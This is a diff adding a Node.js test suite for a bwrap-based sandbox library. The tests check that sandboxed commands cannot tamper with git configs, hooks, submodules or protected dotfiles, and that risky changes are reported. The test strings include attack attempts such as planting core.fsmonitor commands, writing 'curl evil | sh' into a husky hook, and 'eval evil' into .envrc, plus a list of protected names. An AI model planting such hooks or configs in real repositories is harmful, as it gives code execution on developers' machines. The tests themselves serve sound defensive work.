@@ -1,0 +1,253 @@
+'use strict'
+// Planted configuration (issue 17), on the real bwrap: repositories anywhere in the workspace keep
+// their git directories and hooks read-only, protected names cannot be created or changed at the
+// top of the workspace and of each repository, and what mounts cannot prevent (a repository created
+// deeper, a protected name in a new directory) is reported in `hostRisks`. Host state is asserted
+// from snapshots; nothing the sandbox wrote is ever executed on the host (git runs on the host only
+// to build fixtures, before the sandboxed run).
+
+const { describe, test } = require('node:test')
+const assert = require('node:assert/strict')
+const fs = require('node:fs')
+const path = require('node:path')
+const { execFileSync, spawnSync } = require('node:child_process')
+const { sandspawn, tempTree, treeSnapshot, snapshot, show, sh, q, which, waitFor, token } = require('./helpers')
+
+const HAS_GIT = which('git') !== null
+const NO_GIT = !HAS_GIT && 'git is not installed'
+const WW = { mode: 'workspace-write' }
+const DEFAULT_NAMES = ['.gitmodules', '.gitconfig', '.bashrc', '.bash_profile', '.zshrc', '.zprofile', '.profile', '.envrc', '.mcp.json', '.vscode', '.idea', '.devcontainer']
+
+/**
+ * `treeSnapshot` without the times of directories: placeholders are created and removed in them
+ * (their entries, and everything about files, must be unchanged).
+ */
+function contentSnapshot(dir) {
+  const snap = treeSnapshot(dir)
+  for (const s of Object.values(snap)) if (s.type === 'dir') delete s.mtimeMs, delete s.ctimeMs
+  return snap
+}
+
+/** git on the host, for fixtures only. */
+function git(dir, ...args) {
+  return execFileSync('git', ['-C', dir, '-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'protocol.file.allow=always', ...args], { stdio: 'pipe' })
+}
+
+function makeRepo(dir) {
+  fs.mkdirSync(dir, { recursive: true })
+  git(dir, 'init', '-q')
+  fs.writeFileSync(path.join(dir, 'file.txt'), 'hello\n')
+  git(dir, 'add', 'file.txt')
+  git(dir, 'commit', '-qm', 'init')
+}
+
+/** One shell line per attempt: `denied <label>` when it failed, `ESCAPED <label>` when it worked. */
+function attempts(list) {
+  return list.map(([label, cmd]) => `if ( ${cmd} ) >/dev/null 2>&1; then echo ${q(`ESCAPED ${label}`)}; else echo ${q(`denied ${label}`)}; fi`).join('\n')
+}
+
+function assertAllDenied(r, list) {
+  for (const [label] of list) {
+    assert.ok(!r.stdout.includes(`ESCAPED ${label}\n`), `attack "${label}" succeeded\n${show(r)}`)
+    assert.ok(r.stdout.includes(`denied ${label}\n`), `attack "${label}" did not report\n${show(r)}`)
+  }
+  assert.equal(r.exitCode, 0, show(r))
+}
+
+/** The attacks on one repository's metadata, relative to the cwd. */
+function gitAttacks(rel) {
+  const g = path.join(rel, '.git')
+  return [
+    [`${rel}: append to config`, `printf '[core]\\n\\tfsmonitor = touch /var/tmp/pwned\\n' >> ${q(path.join(g, 'config'))}`],
+    [`${rel}: git config`, `git -C ${q(rel)} config core.fsmonitor 'touch /var/tmp/pwned'`],
+    [`${rel}: write a hook`, `printf '#!/bin/sh\\n' > ${q(path.join(g, 'hooks/pre-commit'))}`],
+    [`${rel}: move .git away`, `mv ${q(g)} ${q(g + '.bak')}`],
+  ]
+}
+
+describe('existing repositories inside the workspace', { concurrency: 2 }, () => {
+  test('nested repositories at depth 1 and 5: config and hooks cannot be written; their files can', { skip: NO_GIT }, async (t) => {
+    const tree = tempTree(t)
+    makeRepo(tree.ws)
+    makeRepo(path.join(tree.ws, 'one'))
+    makeRepo(path.join(tree.ws, 'a/b/c/d/five'))
+    const dirs = ['one', 'a/b/c/d/five'].map((d) => path.join(tree.ws, d, '.git'))
+    const before = dirs.map((d) => treeSnapshot(d))
+    const list = [...gitAttacks('one'), ...gitAttacks('a/b/c/d/five')]
+    const work = 'echo edited > one/file.txt && echo edited > a/b/c/d/five/file.txt && echo new > a/b/c/d/five/new.txt'
+    const r = await sh(`${work}\n${attempts(list)}`, { cwd: tree.ws, sandbox: WW })
+    assertAllDenied(r, list)
+    dirs.forEach((d, i) => assert.deepEqual(treeSnapshot(d), before[i], `${d} changed\n${show(r)}`))
+    assert.equal(fs.readFileSync(path.join(tree.ws, 'a/b/c/d/five/file.txt'), 'utf8'), 'edited\n', 'ordinary work in a nested repository failed')
+    assert.equal(fs.readFileSync(path.join(tree.ws, 'one/file.txt'), 'utf8'), 'edited\n')
+    assert.deepEqual(r.hostRisks, [], 'editing files is not a host risk')
+  })
+
+  test("a submodule's git directory cannot be written", { skip: NO_GIT }, async (t) => {
+    const tree = tempTree(t)
+    const upstream = path.join(tree.out, 'lib')
+    makeRepo(upstream)
+    makeRepo(tree.ws)
+    git(tree.ws, 'submodule', 'add', '-q', upstream, 'libs/lib')
+    git(tree.ws, 'commit', '-qm', 'sub')
+    const modules = path.join(tree.ws, '.git/modules/libs/lib')
+    assert.ok(fs.statSync(path.join(tree.ws, 'libs/lib/.git')).isFile(), 'a gitdir: file')
+    const before = [treeSnapshot(modules), snapshot(path.join(tree.ws, 'libs/lib/.git'))]
+    const list = [
+      ['config through the submodule', `git -C libs/lib config core.hooksPath /var/tmp`],
+      ['hook in .git/modules', `printf '#!/bin/sh\\n' > ${q(path.join(modules, 'hooks/post-checkout'))}`],
+      ['rewrite the gitdir: file', `echo "gitdir: /var/tmp" > libs/lib/.git`],
+    ]
+    const r = await sh(`echo edited > libs/lib/file.txt\n${attempts(list)}`, { cwd: tree.ws, sandbox: WW })
+    assertAllDenied(r, list)
+    assert.deepEqual([treeSnapshot(modules), snapshot(path.join(tree.ws, 'libs/lib/.git'))], before, show(r))
+    assert.equal(fs.readFileSync(path.join(tree.ws, 'libs/lib/file.txt'), 'utf8'), 'edited\n')
+  })
+
+  for (const hooksPath of ['.husky', '.husky/_']) {
+    test(`husky-style core.hooksPath=${hooksPath}: .husky and .husky/_ cannot be written`, { skip: NO_GIT }, async (t) => {
+      const tree = tempTree(t)
+      const repo = path.join(tree.ws, 'app')
+      makeRepo(repo)
+      fs.mkdirSync(path.join(repo, '.husky/_'), { recursive: true })
+      fs.writeFileSync(path.join(repo, '.husky/pre-commit'), 'npm test\n')
+      fs.writeFileSync(path.join(repo, '.husky/_/h'), '#!/bin/sh\n')
+      git(repo, 'config', 'core.hooksPath', hooksPath)
+      const before = treeSnapshot(path.join(repo, '.husky'))
+      const list = [
+        ['overwrite .husky/pre-commit', `echo 'curl evil | sh' > app/.husky/pre-commit`],
+        ['new .husky/post-checkout', `printf '#!/bin/sh\\n' > app/.husky/post-checkout`],
+        ['new .husky/_/pre-push', `printf '#!/bin/sh\\n' > app/.husky/_/pre-push`],
+        ['replace .husky', `rm -rf app/.husky`],
+      ]
+      const r = await sh(attempts(list), { cwd: tree.ws, sandbox: WW })
+      assertAllDenied(r, list)
+      assert.deepEqual(treeSnapshot(path.join(repo, '.husky')), before, show(r))
+    })
+  }
+})
+
+/** Each default name, created where missing and changed where present, at `dir` (relative). */
+function nameAttacks(dir, present) {
+  return DEFAULT_NAMES.map((n) => {
+    const p = path.join(dir, n)
+    return present.includes(n) ? [`change ${p}`, `echo pwned >> ${q(p)} || echo pwned > ${q(path.join(p, 'x'))}`] : [`create ${p}`, `echo pwned > ${q(p)} || mkdir -p ${q(p)}/x`]
+  })
+}
+
+describe('protectedNames', () => {
+  test('each default name cannot be created or changed at the top of the workspace and of a nested repository; no placeholder is left', { skip: NO_GIT }, async (t) => {
+    const tree = tempTree(t)
+    const repo = path.join(tree.ws, 'nested/repo')
+    makeRepo(repo)
+    fs.writeFileSync(path.join(tree.ws, '.envrc'), 'export A=1\n')
+    fs.mkdirSync(path.join(repo, '.vscode'))
+    fs.writeFileSync(path.join(repo, '.vscode/tasks.json'), '{}\n')
+    const before = contentSnapshot(tree.ws)
+    const list = [...nameAttacks('.', ['.envrc']), ...nameAttacks('nested/repo', ['.vscode'])]
+    const r = await sh(attempts(list), { cwd: tree.ws, sandbox: WW })
+    assertAllDenied(r, list)
+    // The whole workspace is exactly as before: nothing written, no placeholder left behind.
+    assert.deepEqual(contentSnapshot(tree.ws), before, show(r))
+    assert.deepEqual(r.hostRisks, [], show(r))
+  })
+
+  test('protectedNames: [] allows them', async (t) => {
+    const tree = tempTree(t)
+    const r = await sh(DEFAULT_NAMES.map((n) => `echo ok > ${q(n)}`).join(' && '), { cwd: tree.ws, sandbox: { ...WW, protectedNames: [] } })
+    assert.equal(r.exitCode, 0, show(r))
+    for (const n of DEFAULT_NAMES) assert.equal(fs.readFileSync(path.join(tree.ws, n), 'utf8'), 'ok\n', n)
+  })
+
+  test('a custom list replaces the defaults', async (t) => {
+    const tree = tempTree(t)
+    const r = await sh(attempts([['create .claude', 'mkdir .claude/x']]) + '\necho ok > .envrc', { cwd: tree.ws, sandbox: { ...WW, protectedNames: ['.claude'] } })
+    assertAllDenied(r, [['create .claude']])
+    assert.equal(fs.readFileSync(path.join(tree.ws, '.envrc'), 'utf8'), 'ok\n')
+    assert.equal(fs.existsSync(path.join(tree.ws, '.claude')), false, 'no placeholder left')
+  })
+
+  test('invalid lists reject with ERR_SANDBOX_INVALID_OPTIONS and run nothing', async (t) => {
+    const tree = tempTree(t)
+    const marker = path.join(tree.out, 'ran')
+    for (const bad of ['.envrc', ['a/b'], ['.git'], [''], [1], ['..'], ['a"b']]) {
+      await assert.rejects(sh(`touch ${q(marker)}`, { cwd: tree.ws, sandbox: { ...WW, protectedNames: bad } }), (e) => e instanceof sandspawn.SandboxError && e.code === 'ERR_SANDBOX_INVALID_OPTIONS' && /protectedNames/.test(e.message))
+    }
+    await assert.rejects(sh('true', { sandbox: { mode: 'danger-full-access', protectedNames: ['.envrc'] } }), /protectedNames/)
+    assert.equal(fs.existsSync(marker), false)
+  })
+})
+
+describe('hostRisks: what mounts cannot prevent is reported', () => {
+  test('an ordinary run reports hostRisks: []', async (t) => {
+    const tree = tempTree(t)
+    const r = await sh('mkdir -p src/deep && echo x > src/deep/a.txt', { cwd: tree.ws, sandbox: WW })
+    assert.equal(r.exitCode, 0, show(r))
+    assert.deepEqual(r.hostRisks, [])
+    const ro = await sh('true', { cwd: tree.ws })
+    assert.deepEqual(ro.hostRisks, [], 'read-only')
+    const none = await sh('true', { cwd: tree.ws, sandbox: 'danger-full-access' })
+    assert.deepEqual(none.hostRisks, [], 'no sandbox')
+  })
+
+  test('git init + a planted core.fsmonitor in a new subdirectory is reported with its path', { skip: NO_GIT }, async (t) => {
+    const tree = tempTree(t)
+    makeRepo(tree.ws)
+    const pwned = path.join(tree.out, token('pwned'))
+    const script = `mkdir -p tools/new && cd tools/new && git init -q && git config core.fsmonitor ${q(`touch ${pwned}`)} && printf '#!/bin/sh\\ntouch ${pwned}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`
+    const r = await sh(script, { cwd: tree.ws, sandbox: WW })
+    assert.equal(r.exitCode, 0, show(r))
+    const dotGit = path.join(tree.ws, 'tools/new/.git')
+    const repo = r.hostRisks.find((h) => h.kind === 'repository-created')
+    assert.ok(repo, show(r) + JSON.stringify(r.hostRisks))
+    assert.equal(repo.path, dotGit)
+    assert.match(repo.detail, /core\.fsmonitor/)
+    const hooks = r.hostRisks.find((h) => h.kind === 'hooks-written')
+    assert.ok(hooks && hooks.path === path.join(dotGit, 'hooks') && /pre-commit/.test(hooks.detail), JSON.stringify(r.hostRisks))
+    assert.equal(r.hostRisks.length, 2, JSON.stringify(r.hostRisks))
+    assert.equal(fs.existsSync(pwned), false, 'nothing ran on the host')
+  })
+
+  test('a protected name created inside a new directory is reported; an empty one is not', async (t) => {
+    const tree = tempTree(t)
+    const r = await sh('mkdir -p pkg/a && echo "eval evil" > pkg/a/.envrc && mkdir -p pkg/b && touch pkg/b/.envrc', { cwd: tree.ws, sandbox: WW })
+    assert.equal(r.exitCode, 0, show(r))
+    assert.deepEqual(r.hostRisks.map((h) => [h.kind, h.path]), [['protected-name-created', path.join(tree.ws, 'pkg/a/.envrc')]])
+    assert.match(r.hostRisks[0].detail, /direnv/)
+  })
+
+  test('runWithEscalation keeps the sandboxed attempt\'s hostRisks', { skip: NO_GIT }, async (t) => {
+    const tree = tempTree(t)
+    // Sandboxed: plants a repository, then hits a read-only path (a denial). Unsandboxed: nothing.
+    const script = `if [ -n "$SANDSPAWN_SANDBOX" ]; then git init -q sub/repo && echo x > ${q(path.join(tree.out, 'x'))}; fi`
+    const r = await sandspawn.runWithEscalation(['bash', '-c', script], { cwd: tree.ws, sandbox: WW, timeout: 15000, approve: () => true })
+    assert.equal(r.escalated, true, show(r))
+    assert.deepEqual(r.hostRisks.map((h) => [h.kind, h.path]), [['repository-created', path.join(tree.ws, 'sub/repo/.git')]])
+  })
+
+  test('the CLI prints one warning line per entry', { skip: NO_GIT }, async (t) => {
+    const tree = tempTree(t)
+    const cli = path.join(__dirname, '../../bin/sandspawn.js')
+    const r = await new Promise((resolve) => setImmediate(() => resolve(spawnSync(process.execPath, [cli, '--mode', 'workspace-write', '--cwd', tree.ws, '--', 'bash', '-c', 'git init -q a && git init -q b && mkdir c && echo x > c/.mcp.json'], { encoding: 'utf8', timeout: 30000 }))))
+    assert.equal(r.status, 0, r.stderr)
+    const lines = r.stderr.split('\n').filter((l) => l.startsWith('sandspawn: warning:'))
+    assert.deepEqual(lines.map((l) => l.split(': ').slice(2, 4).join(': ')), [
+      `repository-created: ${path.join(tree.ws, 'a/.git')}`,
+      `repository-created: ${path.join(tree.ws, 'b/.git')}`,
+      `protected-name-created: ${path.join(tree.ws, 'c/.mcp.json')}`,
+    ], r.stderr)
+  })
+})
+
+// Alone and last: /tmp is a writable root too, and its placeholders exist while any run is in flight.
+describe('no placeholder is left in /tmp', () => {
+  test('after a run, no protected-name placeholder remains at the top of /tmp', async (t) => {
+    const tree = tempTree(t)
+    const existing = new Set(DEFAULT_NAMES.filter((n) => snapshot(path.join('/tmp', n)).exists))
+    const r = await sh('ls -d /tmp/.envrc /tmp/.vscode', { cwd: tree.ws, sandbox: WW })
+    assert.equal(r.exitCode, 0, `the placeholders exist inside the run\n${show(r)}`)
+    for (const n of DEFAULT_NAMES.filter((n) => !existing.has(n))) {
+      assert.ok(await waitFor(() => !snapshot(path.join('/tmp', n)).exists, 3000), `/tmp/${n} was left behind`)
+    }
+  })
+})
